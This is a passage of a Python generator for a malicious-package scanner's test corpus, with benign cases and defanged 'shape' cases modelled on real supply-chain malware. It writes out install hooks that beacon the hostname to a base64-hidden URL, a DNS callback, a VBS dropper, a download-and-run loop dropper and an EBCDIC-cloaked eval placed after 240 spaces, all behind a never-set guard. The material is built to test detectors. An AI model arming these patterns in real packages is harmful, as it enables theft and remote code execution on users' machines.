            >>> auto_eval("exec(base64.b64decode('cHJpbnQoMSk='))")
            Traceback (most recent call last):
            ValueError: not arithmetic
            >>> auto_eval("b64decode('cHJpbnQoMSk=')")
            Traceback (most recent call last):
            ValueError: not arithmetic
            \"\"\"
            return _eval(ast.parse(expression, mode="eval").body)


        def _eval(node):
            if isinstance(node, ast.Constant) and isinstance(node.value, (int, float)):
                return node.value
            if isinstance(node, ast.BinOp) and type(node.op) in _OPS:
                return _OPS[type(node.op)](_eval(node.left), _eval(node.right))
            raise ValueError("not arithmetic")
        """))],
    ["--deep"],
)
TP = SP + "/honest_hooks"
BENIGN["benign-test-files"] = (
    "A package's own tests: a webhook test that posts a fixture to a webhook.site URL, and a conftest PowerShell "
    "helper that runs hidden with -ExecutionPolicy Bypass. Test files are capped at medium.",
    [dist("honest-hooks", "1.0"), f(TP + "/__init__.py", ""),
     f(TP + "/tests/__init__.py", ""),
     f(TP + "/tests/test_webhook.py", textwrap.dedent(
         """\
         import requests

         from honest_hooks import __name__ as package

         HOOK = "https://webhook.site/00000000-0000-0000-0000-000000000000"


         def test_post_reaches_webhook():
             payload = {"event": "ping", "source": package}
             r = requests.post(HOOK, json=payload, timeout=5)
             assert r.status_code == 200
         """)),
     f(TP + "/tests/conftest.py", textwrap.dedent(
         """\
         import subprocess

         import pytest


         def run_ps(script):
             \"\"\"Runs a PowerShell snippet for the Windows tests.\"\"\"
             return subprocess.run(
                 ["powershell", "-NoProfile", "-NonInteractive", "-WindowStyle", "Hidden",
                  "-ExecutionPolicy", "Bypass", "-Command", script],
                 capture_output=True, text=True, check=True,
             ).stdout


         @pytest.fixture
         def ps():
             return run_ps
         """))],
    ["--deep"],
)
elf = (b"\x7fELF\x02\x01\x01" + b"\x00" * 57 + b"\x00GLIBC_2.34\x00libcurl.so.4\x00curl_easy_perform\x00"
       b"/home/user/.ssh/id_rsa\x00~/.ssh/known_hosts\x00pthscan corpus: not a real program\x00")
readme_meta = textwrap.dedent(
    """\
    Metadata-Version: 2.1
    Name: honest-cli
    Version: 1.0
    Description-Content-Type: text/markdown

    # honest-cli

    Install the helper binary:

        curl -fsSL https://example.invalid/install.sh | sh

    It reads your AWS profile from `~/.aws/credentials` and your key from `~/.ssh/id_rsa`, like the AWS CLI and
    ssh do, and never sends either anywhere.
    """
)
BENIGN["benign-elf-and-readme"] = (
    "An ELF binary without extension in bin/ (strings `curl`, `.ssh/id_rsa`) and a METADATA README that mentions "
    "`curl | sh` and `~/.aws/credentials`: neither is Python.",
    [f(SP + "/honest_cli-1.0.dist-info/METADATA", readme_meta), f(SP + "/honest_cli/__init__.py", ""),
     f("venv/bin/honest-cli", b64data=b64(elf)),
     # the RECORD lists the binary, so --deep judges it
     f(SP + "/honest_cli-1.0.dist-info/RECORD", record_of("honest_cli-1.0.dist-info", [
         ("honest_cli-1.0.dist-info/METADATA", readme_meta), ("honest_cli/__init__.py", "")]).replace(
         "honest_cli-1.0.dist-info/RECORD,,", "../../../bin/honest-cli,sha256=%s,%d\nhonest_cli-1.0.dist-info/RECORD,," % (
             base64.urlsafe_b64encode(__import__("hashlib").sha256(elf).digest()).rstrip(b"=").decode(), len(elf))))],
    ["--deep"],
)
BENIGN["benign-shell-alias"] = (
    "A shell helper shipped in a package that appends an alias to ~/.bashrc and, separately, checks for updates "
    "with curl.",
    [dist("honest-shell", "1.0"), f(SP + "/honest_shell/__init__.py", ""),
     f(SP + "/honest_shell/scripts/setup-alias.sh", textwrap.dedent(
         """\
         #!/bin/sh
         # adds the `hs` alias for honest-shell
         if ! grep -q "alias hs=" "$HOME/.bashrc" 2>/dev/null; then
             echo 'alias hs="python -m honest_shell"' >> "$HOME/.bashrc"
         fi
         latest=$(curl -fsS https://pypi.org/pypi/honest-shell/json | python -c 'import json,sys; print(json.load(sys.stdin)["info"]["version"])')
         echo "latest honest-shell: $latest"
         """))],
    ["--deep"],
)
BENIGN["benign-powershell-activate"] = (
    "A pipenv-like shell launcher that activates a virtualenv in PowerShell with `Invoke-Expression`.",
    [dist("honest-env", "1.0"), f(SP + "/honest_env/__init__.py", ""), f(SP + "/honest_env/shells.py", textwrap.dedent(
        """\
        import os
        import subprocess


        def activate_command(venv):
            script = os.path.join(venv, "Scripts", "Activate.ps1")
            return "Invoke-Expression \\"& '{}'\\"".format(script)


        def spawn_powershell(venv, cwd):
            cmd = ["powershell.exe", "-NoLogo", "-NoExit", "-Command", activate_command(venv)]
            return subprocess.call(cmd, cwd=cwd)
        """))],
    ["--deep"],
)
BENIGN["benign-keras-marshal"] = (
    "A keras-like loader that rebuilds a Lambda layer's function with marshal.loads + types.FunctionType from bytes "
    "read out of a model file (no literal payload).",
    [dist("honest-layers", "1.0"), f(SP + "/honest_layers/__init__.py", ""), f(SP + "/honest_layers/generic_utils.py", textwrap.dedent(
        """\
        import binascii
        import codecs
        import json
        import marshal
        import types


        def func_load(code, defaults=None, closure=None, globs=None):
            \"\"\"Deserializes a user defined function saved with func_dump.\"\"\"
            if isinstance(code, (tuple, list)):
                code, defaults, closure = code
            try:
                raw_code = codecs.decode(code.encode("ascii"), "base64")
            except (UnicodeEncodeError, binascii.Error):
                raw_code = code.encode("raw_unicode_escape")
            code = marshal.loads(raw_code)
            if globs is None:
                globs = globals()
            return types.FunctionType(code, globs, name=code.co_name, argdefs=defaults, closure=closure)


        def load_lambda(model_path, layer_name):
            with open(model_path) as fh:
                config = json.load(fh)
            layer = config["layers"][layer_name]
            return func_load(layer["function"], globs={})
        """))],
    ["--deep"],
)
BENIGN["benign-setup-clang"] = (
    "An sdist's setup.py that looks for clang.exe and runs the compiler with shell=True to probe a flag.",
    [sdist("fastext-1.0", [("setup.py", textwrap.dedent(
        """\
        import glob
        import os
        import shutil
        import subprocess
        import sys
        from setuptools import Extension, setup


        def find_clang():
            found = shutil.which("clang.exe" if sys.platform == "win32" else "clang")
            if found:
                return found
            for root in (r"C:\\Program Files\\LLVM\\bin", r"C:\\Program Files (x86)\\LLVM\\bin"):
                for candidate in glob.glob(os.path.join(root, "clang.exe")):
                    return candidate
            return None


        def supports(flag):
            cc = find_clang()
            if cc is None:
                return False
            cmd = '"%s" %s -x c -c -o nul -' % (cc, flag)
            return subprocess.call(cmd, shell=True, stdin=subprocess.DEVNULL) == 0


        args = ["-O3", "-mavx2"] if supports("-mavx2") else ["-O3"]
        setup(name="fastext", version="1.0", ext_modules=[Extension("fastext._speed", ["src/speed.c"], extra_compile_args=args)])
        """))])],
    [],
)
BENIGN["benign-setup-maintainer"] = (
    "An sdist's setup.py with maintainer helpers (a local http.server for the docs, `os.system` twine upload) "
    "that run only when asked (`setup.py publish` / `docs`), never at install.",
    [sdist("maint-1.0", [("setup.py", textwrap.dedent(
        """\
        import os
        import sys
        from setuptools import setup


        def serve_docs(port=8000):
            import functools
            import http.server
            handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory="docs/_build/html")
            http.server.ThreadingHTTPServer(("127.0.0.1", port), handler).serve_forever()


        def publish():
            os.system("python -m build")
            os.system("twine upload dist/*")


        if sys.argv[-1] == "publish":
            publish()
            sys.exit()
        if sys.argv[-1] == "docs":
            serve_docs()
            sys.exit()

        setup(name="maint", version="1.0", packages=["maint"])
        """))])],
    [],
)
BENIGN["benign-secret-scanner"] = (
    "A secret scanner: `.env` in its list of file names to check, an os.walk over the project, and an unrelated "
    "requests.get of its rule updates.",
    [dist("honest-secrets", "1.0"), f(SP + "/honest_secrets/__init__.py", ""), f(SP + "/honest_secrets/scan.py", textwrap.dedent(
        """\
        import os
        import re

        import requests

        CANDIDATES = (".env", ".env.local", ".npmrc", ".pypirc", "credentials.json", ".py", ".cfg", ".ini")
        RULES_URL = "https://example.invalid/honest-secrets/rules.json"


        def update_rules():
            return requests.get(RULES_URL, timeout=10).json()


        def scan(project_dir, rules):
            hits = []
            patterns = [re.compile(r) for r in rules]
            for root, dirs, files in os.walk(project_dir):
                for name in files:
                    if name.endswith(CANDIDATES):
                        path = os.path.join(root, name)
                        with open(path, errors="replace") as fh:
                            for n, line in enumerate(fh, 1):
                                if any(p.search(line) for p in patterns):
                                    hits.append((path, n))
            return hits
        """))],
    ["--deep"],
)
BENIGN["benign-ssh-client-host-user"] = (
    "An SSH client that defaults the login to getpass.getuser() in one place and labels generated keys with "
    "socket.gethostname() far away; its socket sends only the protocol banner.",
    [dist("honest-ssh", "1.0"), f(SP + "/honest_ssh/__init__.py", ""), f(SP + "/honest_ssh/client.py", textwrap.dedent(
        """\
        import getpass
        import os
        import socket

        BANNER = b"SSH-2.0-honest_ssh_1.0\\r\\n"


        class SSHClient:
            def __init__(self):
                self._sock = None
                self.username = None

            def connect(self, hostname, port=22, username=None):
                self.username = username or getpass.getuser()
                self._sock = socket.create_connection((hostname, port), timeout=10)
                self._sock.sendall(BANNER)
                return self._sock.recv(256)

            def close(self):
                if self._sock is not None:
                    self._sock.close()
                    self._sock = None


        class Policy:
            def missing_host_key(self, client, hostname, key):
                raise KeyError(hostname)


        def _fingerprint(blob):
            import hashlib
            return hashlib.sha256(blob).hexdigest()


        def key_comment():
            \"\"\"The comment written after a generated public key.\"\"\"
            return "generated on " + socket.gethostname()


        def write_public_key(path, blob):
            with open(os.path.expanduser(path), "w") as fh:
                fh.write("ssh-ed25519 %s %s\\n" % (_fingerprint(blob), key_comment()))
        """))],
    ["--deep"],
)
BENIGN["benign-devtool-ssh-github"] = (
    "A dev tool that checks which of the user's ~/.ssh key names exist (never reading them) and, unrelated, asks "
    "api.github.com for its latest release.",
    [dist("honest-dev", "1.0"), f(SP + "/honest_dev/__init__.py", ""), f(SP + "/honest_dev/doctor.py", textwrap.dedent(
        """\
        import json
        import os
        from urllib.request import urlopen

        KEY_NAMES = ("id_rsa", "id_ecdsa", "id_ed25519")


        def ssh_keys_present():
            home = os.path.expanduser("~/.ssh")
            return [name for name in KEY_NAMES if os.path.exists(os.path.join(home, name))]


        def latest_release():
            with urlopen("https://api.github.com/repos/honest/dev/releases/latest", timeout=5) as r:
                return json.load(r)["tag_name"]


        def doctor():
            keys = ssh_keys_present()
            print("ssh keys:", ", ".join(keys) or "none (run ssh-keygen)")
            print("latest:", latest_release())
        """))],
    ["--deep"],
)
BENIGN["benign-kube-config-oidc"] = (
    "A kubernetes-client-like config loader: reads ~/.kube/config inside a function and, in another function, "
    "refreshes an OIDC token at the issuer with requests.",
    [dist("honest-kube", "1.0"), f(SP + "/honest_kube/__init__.py", ""), f(SP + "/honest_kube/kube_config.py", textwrap.dedent(
        """\
        import os

        import requests
        import yaml

        KUBE_CONFIG_DEFAULT_LOCATION = os.environ.get("KUBECONFIG", "~/.kube/config")


        def load_kube_config(config_file=None, context=None):
            path = os.path.expanduser(config_file or KUBE_CONFIG_DEFAULT_LOCATION)
            with open(path) as fh:
                config = yaml.safe_load(fh)
            return KubeConfigLoader(config, context)


        class KubeConfigLoader:
            def __init__(self, config, context=None):
                self._config = config
                self._context = context or config.get("current-context")

            def _user(self):
                ctx = next(c for c in self._config["contexts"] if c["name"] == self._context)
                return next(u for u in self._config["users"] if u["name"] == ctx["context"]["user"])["user"]

            def _refresh_oidc(self, provider):
                cfg = provider["config"]
                discovery = requests.get(cfg["idp-issuer-url"] + "/.well-known/openid-configuration", timeout=10).json()
                resp = requests.post(
                    discovery["token_endpoint"],
                    data={"grant_type": "refresh_token", "refresh_token": cfg["refresh-token"]},
                    auth=(cfg["client-id"], cfg.get("client-secret", "")),
                    timeout=10,
                )
                cfg["id-token"] = resp.json()["id_token"]
                return cfg["id-token"]

            def token(self):
                user = self._user()
                if "auth-provider" in user and user["auth-provider"]["name"] == "oidc":
                    return self._refresh_oidc(user["auth-provider"])
                return user.get("token")
        """))],
    ["--deep"],
)

# C: shapes of the training sample's misses after the first pass (each a general mechanism,
# written here from scratch, defanged: documentation addresses, never-set guards)
endpoint_setup = textwrap.dedent(
    """\
    import base64
    import os
    import socket
    from setuptools import setup
    from setuptools.command.install import install

    import requests


    def report(address, value):
        requests.post(base64.b64decode(address).decode("ascii"), json={"h": value}, timeout=3)


    class Install(install):
        def run(self):
            install.run(self)
            if os.environ.get("PTHSCAN_CORPUS_NEVER_SET") == "armed":
                report("aHR0cDovLzE5OC41MS4xMDAuNy9zZXQ=", socket.gethostname())


    setup(name="endpoint-demo", version="1.0", packages=[], cmdclass={"install": Install})
    """
)
SHAPE_CASES["shape-hidden-endpoint"] = (
    "An sdist's setup.py whose install command posts the host name to a URL kept in base64 and decoded in a "
    "helper that takes it as a parameter.",
    [sdist("endpoint-demo-1.0", [("setup.py", endpoint_setup)])],
    [],
)
dns_setup = textwrap.dedent(
    """\
    import socket
    from setuptools import setup
    from setuptools.command.install import install


    class PostInstall(install):
        def run(self):
            try:
                socket.gethostbyname(f"dnsdemo-poc.{'c0ffee42beef'}.oast.example")
            except OSError:
                pass
            install.run(self)


    setup(name="dns-demo", version="99.0", cmdclass={"install": PostInstall})
    """
)
SHAPE_CASES["shape-dns-callback"] = (
    "A dependency-confusion placeholder: an sdist's install command resolves a fixed host name (a DNS callback).",
    [sdist("dns-demo-99.0", [("setup.py", dns_setup)])],
    [],
)
dropper_setup = textwrap.dedent(
    """\
    import os
    from base64 import b64decode
    from os.path import join
    from subprocess import Popen
    from setuptools import setup

    setup(name="vbs-demo", version="1.0", packages=[])


    def b64(code):
        return b64decode(code.encode("utf8")).decode("utf8")


    if os.environ.get("PTHSCAN_CORPUS_NEVER_SET") == "armed":
        work = join(os.environ["TEMP"], "__pycache__")
        with open(join(work, "main.scripts.vbs"), "w") as f:
            f.write(b64("%s"))
        os.chdir(work)
        Popen("main.scripts.vbs", shell=True)
    """
    % b64('WScript.Echo "pthscan corpus: defanged sample"\n')
)
SHAPE_CASES["shape-dropped-blob-run"] = (
    "An sdist's setup.py that writes a script decoded from a blob it carries into %TEMP%, changes into that "
    "folder and runs the script by its file name.",
    [sdist("vbs-demo-1.0", [("setup.py", dropper_setup)])],
    [],
)
BENIGN["benign-cloud-checks"] = (
    "A cloud-storage client: a GCE check that resolves metadata.google.internal at import, and a token "
    "refresh that posts claims decoded from a JWT to a configured URL through a Request object.",
    [dist("honest-cloud", "1.0"), f(SP + "/honest_cloud/__init__.py", ""), f(SP + "/honest_cloud/auth.py", textwrap.dedent(
        """\
        import base64
        import json
        import socket
        import urllib.request


        def _is_gce_instance():
            try:
                socket.getaddrinfo("metadata.google.internal", 80)
            except socket.gaierror:
                return False
            return True


        ON_GCE = _is_gce_instance()


        def _claims(token):
            segment = token.split(".")[1]
            return json.loads(base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4)))


        def refresh(url, token):
            body = json.dumps({"sub": _claims(token)["sub"]}).encode()
            request = urllib.request.Request(url, data=body, method="POST")
            with urllib.request.urlopen(request, timeout=30) as response:
                return json.loads(response.read())
        """))],
    ["--deep"],
)

DRV, STEG = in_sdist("drv-demo-1.0"), in_sdist("steg-demo-1.0")
EP, DNS, VBS = in_sdist("endpoint-demo-1.0"), in_sdist("dns-demo-99.0"), in_sdist("vbs-demo-1.0")
# A loop-carried dropper (fabrice): a function called at import fetches a script, splits it
# into sections with lists it appends to a list before filling them, writes one section under
# ~/.local/bin, makes it executable and runs it
loop_dropper = textwrap.dedent(
    """\
    import os
    import subprocess
    import urllib.request


    def fetch_sections():
        if os.environ.get("PTHSCAN_CORPUS_NEVER_SET") != "armed":
            return
        directory = os.path.expanduser("~") + "/.local/bin/corpus"
        text = urllib.request.urlopen("http://127.0.0.1:9/sections").read().decode()
        section = []
        sections = []
        for line in text.splitlines():
            if "SPLIT" in line:
                sections.append(section)
                section = []
            else:
                section.append(line)
        with open(directory + "/per" + "." + "sh", "w") as fp:
            for row in sections[3]:
                fp.write(row + "\\n")
        os.chmod(directory + "/per" + "." + "sh", 0o755)
        subprocess.check_call(directory + "/per" + "." + "sh")


    fetch_sections()
    """
)
SHAPE_CASES["shape-loop-carried-dropper"] = (
    "A .pth imports a module whose function, called at import, downloads a script, splits it into sections "
    "through lists appended before they are filled (the flow reaches them on the loop's next round), writes one "
    "under ~/.local/bin, makes it executable and runs it.",
    [f(SP + "/sections.pth", "import _sections_boot\n"), f(SP + "/_sections_boot.py", loop_dropper)],
    [],
)

# A code-page cloak (sol-structs): `eval` and the code it runs are EBCDIC bytes decoded with
# cp1026, the builtin fetched by that name from `builtins`, all on one line after a run of spaces
ebcdic = lambda text: "b'" + "".join("\\x%02x" % b for b in text.encode("cp1026")) + "'"
codepage_cloak = (
    "import builtins\n"
    "import os\n"
    "SETTINGS = {'retries': 3}" + " " * 240 + ";cc = getattr(builtins, " + ebcdic("eval") + ".decode('cp1026'));"
    "os.environ.get('PTHSCAN_CORPUS_NEVER_SET') == 'armed' and cc("
    + ebcdic("exec(__import__('urllib.request').request.urlopen('http://127.0.0.1:9/raw').read())")
    + ".decode('cp1026'))\n"
)
SHAPE_CASES["shape-codepage-cloak"] = (
    "A .pth imports a module that fetches `eval` from `builtins` by a name written in EBCDIC (cp1026) and "
    "evaluates EBCDIC-encoded code that downloads and runs more, on a line pushed right by 240 spaces.",
    [f(SP + "/cloak.pth", "import _cloak_boot\n"), f(SP + "/_cloak_boot.py", codepage_cloak)],
    [],
)
SHAPE_EXPECT = {
    "shape-pyc-shadowed-hook-module": [
        e("PTH001", "info", SP311 + "/distutils-precedence.pth", 1),
        e("process-fetch-run", "high", DISTUTILS_HACK, 1),
    ],
    "shape-loop-carried-dropper": [
        e("PTH001", "medium", SP + "/sections.pth", 1),
        e("IMP001", "low", SP + "/_sections_boot.py", 3),
        e("flow-download-run", "high", SP + "/_sections_boot.py", line_of(loop_dropper, "os.chmod(")),
    ],
    "shape-codepage-cloak": [
        e("PTH001", "medium", SP + "/cloak.pth", 1),
        e("flow-network-exec", "critical", SP + "/_cloak_boot.py", 3),
    ],
    "shape-hidden-endpoint": [
        # decoded from the parameter the blob is passed in: at install, high
        e("flow-decoded-arg-endpoint", "high", EP, line_of(endpoint_setup, "requests.post")),
        e("flow-host-beacon", "high", EP, line_of(endpoint_setup, "requests.post")),
        # text rules over Python: capped at medium
        e("exfil-encoded-endpoint", "medium", EP, line_of(endpoint_setup, "requests.post")),
        e("install-beacon", "medium", EP, 11),
        e("install-network", "medium", EP, 11),
    ],
    "shape-dns-callback": [
        e("dns-callback", "high", DNS, line_of(dns_setup, "gethostbyname")),
        e("install-beacon", "medium", DNS, 9),
        e("install-network", "medium", DNS, 9),
    ],
    "shape-dropped-blob-run": [
        e("flow-dropped-run", "high", VBS, line_of(dropper_setup, "Popen(")),
        e("flow-download-run", "high", VBS, line_of(dropper_setup, "Popen(")),
        e("install-shell-command", "medium", VBS, 4),
    ],
    "shape-setup-space-paren": [
        e("process-fetch-run", "high", DRV, line_of(drv_setup, "curl -fsSL")),
        e("persist-write", "high", DRV, line_of(drv_setup, "rc.write")),
        # text rules over Python: capped at medium
        e("install-beacon", "medium", DRV, 6),
        e("install-network", "medium", DRV, 6),
        e("install-shell-command", "medium", DRV, 6),
        e("persist-shell-rc", "medium", DRV, line_of(drv_setup, "curl -fsSL")),
    ],
    "shape-requests-alias-exec": [
        e("PTH001", "medium", SP + "/rs_boot.pth", 1),
        e("flow-network-exec", "critical", SP + "/_rs_boot.py", line_of(rs_mod, "exec(")),
    ],
    "shape-marshal-alias-exec": [
        e("PTH001", "high", SP + "/m_boot.pth", 1),
        e("IMP001", "high", SP + "/_m_boot.py", line_of(marsh_alias, "exec(")),
        e("flow-decoded-exec", "high", SP + "/_m_boot.py", line_of(marsh_alias, "exec(")),
        e("obf-exec-decoded", "medium", SP + "/_m_boot.py", line_of(marsh_alias, "exec(")),
    ],
    "shape-network-var-exec": [
        e("flow-network-exec", "critical", VP + "/fetch.py", line_of(var_requests, "exec(")),
        e("flow-network-exec", "critical", VP + "/legacy.py", line_of(var_urlopen, "exec(")),
    ],
    "shape-lookalike-exec": [
        e("PTH001", "medium", SP + "/lookalike.pth", 1),
        e("PTH001", "medium", SP + "/lookalike.pth", 2),
        e("flow-decoded-exec", "high", SP + "/_mono_boot.py", 4),
        e("flow-decoded-exec", "high", SP + "/_wide_boot.py", 4),
    ],
    "shape-pyc-only-module": [
        e("PTH001", "medium", SP311 + "/pyc_boot.pth", 1),
        # bytecode: the signals' and the behaviour's lines are those of the .pyc's bytes
        e("IMP001", "low", SP311 + "/_pyc_boot.pyc", 2),
        e("flow-network-exec", "critical", SP311 + "/_pyc_boot.pyc", 1),
    ],
    "shape-miner-curl-list": [
        e("PTH001", "medium", SP + "/kworker.pth", 1),
        e("process-fetch-run", "high", SP + "/_kworker.py", line_of(miner, '"curl"')),
        e("drop-cryptominer", "medium", SP + "/_kworker.py", line_of(miner, '"curl"')),
    ],
    "shape-clipboard-hijack": [
        e("PTH001", "medium", SP + "/clip.pth", 1),
        e("clipboard-replace", "high", SP + "/_clip_boot.py", line_of(clipper, "pyperclip.copy")),
    ],
    "shape-stegano-exec": [
        e("flow-hidden-exec", "critical", STEG, line_of(steg_setup, "exec(")),
    ],
    # the twins: what stays is below high
    "benign-decode-not-run": [e("obf-exec-decoded", "medium", BP + "/patterns.py", 11)],
    "benign-deploy-excludes-env": [
        e("cred-dotenv-sweep", "medium", SP + "/honest_deploy/archive.py", 11),
        e("exfil-archive-upload", "medium", SP + "/honest_deploy/archive.py", 24),
        e("flow-file-send", "low", SP + "/honest_deploy/archive.py", 24),
    ],
    "benign-devtool-ssh-github": [e("cred-ssh-keys", "medium", SP + "/honest_dev/doctor.py", 9)],
    # a false alarm today: flow-decoded-exec high at line 16 (codecs base64 → marshal.loads)
    "benign-keras-marshal": [e("obf-marshal-exec", "medium", SP + "/honest_layers/generic_utils.py", 16)],
    "benign-powershell-activate": [e("drop-powershell", "medium", SP + "/honest_env/shells.py", 7)],
    "benign-pth-autopatch": [
        e("PTH001", "medium", SP + "/websocket_autopatch.pth", 1),
        e("IMP001", "low", SP + "/websocket_autopatch.py", 8),
    ],
    "benign-secret-scanner": [e("cred-dotenv-sweep", "medium", SP + "/honest_secrets/scan.py", 17)],
    # the name is one letter from fasttext's: said at medium, as any near-name is
    "benign-setup-clang": [e("install-shell-command", "medium", in_sdist("fastext-1.0"), 24),
                           e("TYP001", "medium", in_sdist("fastext-1.0", "PKG-INFO"))],
    "benign-ssh-client-host-user": [e("exfil-host-beacon", "medium", SP + "/honest_ssh/client.py", 14)],
    # test files are capped at medium
    "benign-test-files": [
        e("exfil-drop-service", "medium", TP + "/tests/test_webhook.py", 5),
        e("process-hidden-shell", "medium", TP + "/tests/conftest.py", 8),
    ],
}
for name, (desc, parts, args) in list(SHAPE_CASES.items()) + list(BENIGN.items()):
    cases[name] = (desc, parts + SHAPE_EXPECT.get(name, []), args)


for name, (desc, parts, *rest) in sorted(cases.items()):
    args = rest[0] if rest else []
    os.makedirs(os.path.join(HERE, "cases", name), exist_ok=True)
    with open(os.path.join(HERE, "cases", name, "case.toml"), "w", newline="") as out:
        out.write("# %s\n# Defanged: every payload is harmless text or sits behind a never-set guard.\n" % desc)
        out.write("description = %s\n" % q(desc))
        if args:
            out.write("args = [%s]\n" % ", ".join('"%s"' % a for a in args))
        out.write("\n")
        # one finding per rule and line: a repeated expectation is the same finding
        out.write("\n".join([CFG] + list(dict.fromkeys(parts))))
print("wrote %d cases" % len(cases))
